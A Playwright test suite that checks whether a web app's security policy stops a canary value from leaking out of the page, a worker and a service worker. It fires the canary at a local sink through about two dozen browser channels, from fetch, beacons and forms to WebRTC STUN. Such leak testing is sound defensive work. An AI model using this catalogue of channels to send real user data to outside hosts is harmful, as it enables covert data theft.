import { mkdirSync, readdirSync, writeFileSync } from 'node:fs'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { serve } from '../scripts/serve.mjs'
import { openSink, type Sink } from './sink'

/**
 * A canary is sent out of page, worker and service worker by every way that we know, to a sink on another port. With
 * the policy nothing may arrive. Without it everything must: else this test would prove nothing.
 */
const pageWays = [
  'page-fetch',
  'page-xhr',
  'page-websocket',
  'page-event-source',
  'page-beacon',
  'page-image',
  'page-style',
  'page-style-url',
  'page-frame',
  'page-script',
  'page-import',
  'page-object',
  'page-video',
  'page-form',
  'page-preload',
  'page-popup',
  'page-frame-location',
  'webrtc',
]
const workerWays = ['worker-fetch', 'worker-xhr', 'worker-websocket', 'worker-event-source', 'worker-import']
const serviceWorkerWays = ['sw-fetch', 'sw-websocket']
const lastWay = 'page-location'

interface Target {
  readonly port: number
  readonly udpPort: number
}

let sink: Sink
test.beforeEach(async () => {
  sink = await openSink()
})
test.afterEach(() => sink.close())

test('without the policy, the canary gets out by every way', async ({ browser }, info) => {
  const directory = info.outputPath('bare')
  mkdirSync(directory, { recursive: true })
  writeFileSync(`${directory}/index.html`, '<!doctype html><meta charset="utf-8"><title>Bare</title><body></body>')
  writeFileSync(`${directory}/worker.js`, 'postMessage("ready")')
  writeFileSync(`${directory}/sw.js`, 'self.addEventListener("fetch", () => {})')
  const { server, url } = await serve({ directory, headers: {}, port: 4400 })
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(url)
    await page.evaluate(() => navigator.serviceWorker.register('./sw.js').then(() => navigator.serviceWorker.ready))
    await release(page, context, 'worker.js')
    await expect
      .poll(() => sink.arrived(), { timeout: 20_000 })
      .toEqual([...pageWays, ...workerWays, ...serviceWorkerWays, lastWay].sort())
  } finally {
    await context.close()
    server.closeAllConnections()
    server.close()
  }
})

test('nothing gets out of page, worker and service worker where the host sends the policy', async ({
  page,
  context,
}) => {
  await page.goto('./')
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
  await release(page, context, probeScript())
  await page.waitForTimeout(3000)
  expect(sink.arrived()).toEqual([])
})

test('nothing gets out of page and worker on a plain static host, from the second load on', async ({ browser }) => {
  const { server, url } = await serve({ headers: {}, port: 4450 })
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(url)
    // The first load reloads by itself once the service worker has taken control.
    await page.waitForFunction(() => crossOriginIsolated && navigator.serviceWorker.controller !== null)
    expect((await page.request.get(url)).headers()['content-security-policy']).toBeUndefined()
    await release(page, undefined, probeScript())
    await page.waitForTimeout(3000)
    expect(sink.arrived()).toEqual([])
  } finally {
    await context.close()
    server.closeAllConnections()
    server.close()
  }
})

test('the app says that it is sealed, at once where the host sends the policy', async ({ page }) => {
  await page.goto('./')
  await expect(page.getByText('Sealed', { exact: true })).toBeVisible()
})

test('the app lets nobody in by itself where the seal does not hold', async ({ browser }) => {
  const { server, url } = await serve({ headers: {}, port: 4480 })
  const context = await browser.newContext({ serviceWorkers: 'block' })
  try {
    const page = await context.newPage()
    await page.goto(url)
    await expect(page.getByRole('heading', { name: 'This page is not sealed' })).toBeVisible()
  } finally {
    await context.close()
    server.closeAllConnections()
    server.close()
  }
})

/** The app's own probe worker: under the policy only the app's own files can be workers. */
function probeScript(): string {
  const name = readdirSync(new URL('../dist/assets', import.meta.url)).find((file) => /^probe-.*\.js$/.test(file))
  if (!name) throw new Error('The build has no probe worker')
  return `assets/${name}`
}

/** Lets the canary out of all three; of the page last by leaving it. */
async function release(page: Page, context: BrowserContext | undefined, workerScript: string): Promise<void> {
  const target: Target = { port: sink.port, udpPort: sink.udpPort }
  await releaseInSecondPage(page, target)
  const started = page.waitForEvent('worker')
  await page.evaluate((script) => {
    Object.assign(globalThis, { kept: new Worker(script, { type: 'module' }) })
  }, workerScript)
  const worker = await started
  await worker.evaluate(releaseFromWorker, target)
  for (const serviceWorker of context?.serviceWorkers() ?? []) {
    await serviceWorker.evaluate(releaseFromServiceWorker, target)
  }
  if (context) expect(context.serviceWorkers().length).toBe(1)
  await page.evaluate(releaseFromPage, target)
  await page.waitForTimeout(2000)
  await page
    .evaluate((port) => {
      location.href = `http://127.0.0.1:${port}/canary/page-location`
    }, target.port)
    .catch(() => undefined)
}

/** In a page of its own: Chromium 156 ends a renderer that gathers candidates under Connection-Allowlist. */
async function releaseInSecondPage(page: Page, target: Target): Promise<void> {
  const second = await page.context().newPage()
  await second.goto(page.url())
  await second.evaluate(releaseByWebRtc, target).catch((error: Error) => expect(error.message).toContain('crashed'))
  await page.waitForTimeout(2000)
  await second.close()
}

// These run in the browser: they can name nothing of this file.

function releaseFromWorker({ port }: Target): void {
  const to = (way: string) => `http://127.0.0.1:${port}/canary/${way}?canary=4711`
  const attempts = [
    () => void fetch(to('worker-fetch')).catch(() => undefined),
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('worker-xhr'))
      request.send()
    },
    () => void new WebSocket(to('worker-websocket').replace('http', 'ws')),
    () => void new EventSource(to('worker-event-source')),
    () => void import(to('worker-import')).catch(() => undefined),
  ]
  for (const attempt of attempts) {
    try {
      attempt()
    } catch {
      // Refused at once.
    }
  }
}

function releaseFromServiceWorker({ port }: Target): void {
  const to = (way: string) => `http://127.0.0.1:${port}/canary/${way}?canary=4711`
  void fetch(to('sw-fetch'), { mode: 'no-cors' }).catch(() => undefined)
  try {
    new WebSocket(to('sw-websocket').replace('http', 'ws'))
  } catch {
    // Refused at once.
  }
}

function releaseFromPage({ port }: Target): void {
  const to = (way: string) => `http://127.0.0.1:${port}/canary/${way}?canary=4711`
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  /** A fresh window, in which nothing has been taken away. */
  const fresh = () => (add('iframe', {}) as HTMLIFrameElement).contentWindow as Window & typeof globalThis
  const attempts = [
    () => void fetch(to('page-fetch')).catch(() => undefined),
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('page-xhr'))
      request.send()
    },
    () => void new WebSocket(to('page-websocket').replace('http', 'ws')),
    () => void new EventSource(to('page-event-source')),
    () => void fresh().navigator.sendBeacon(to('page-beacon'), 'canary'),
    () => void add('img', { src: to('page-image') }),
    () => void add('link', { rel: 'stylesheet', href: to('page-style') }),
    () => void add('div', { style: `background-image: url("${to('page-style-url')}"); width: 9px; height: 9px` }),
    () => void add('iframe', { src: to('page-frame') }),
    () => void add('script', { src: to('page-script') }),
    () => void import(to('page-import')).catch(() => undefined),
    () => void add('object', { data: to('page-object') }),
    () => void (add('video', { src: to('page-video'), preload: 'auto' }) as HTMLVideoElement).load(),
    () => {
      add('iframe', { name: 'form-target' })
      ;(add('form', { action: to('page-form'), method: 'post', target: 'form-target' }) as HTMLFormElement).submit()
    },
    () => void add('link', { rel: 'preload', as: 'fetch', href: to('page-preload'), crossorigin: '' }),
    () => void window.open(to('page-popup')),
    () => {
      fresh().location.href = to('page-frame-location')
    },
  ]
  for (const attempt of attempts) {
    try {
      attempt()
    } catch {
      // Refused at once.
    }
  }
}

/** STUN: the address of the server is asked for by UDP, and the user name of a TURN request can carry anything. */
function releaseByWebRtc({ udpPort }: Target): void {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  // A fresh window, in which nothing has been taken away.
  const { RTCPeerConnection } = frame.contentWindow as Window & typeof globalThis
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] })
  connection.createDataChannel('canary')
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer))
}
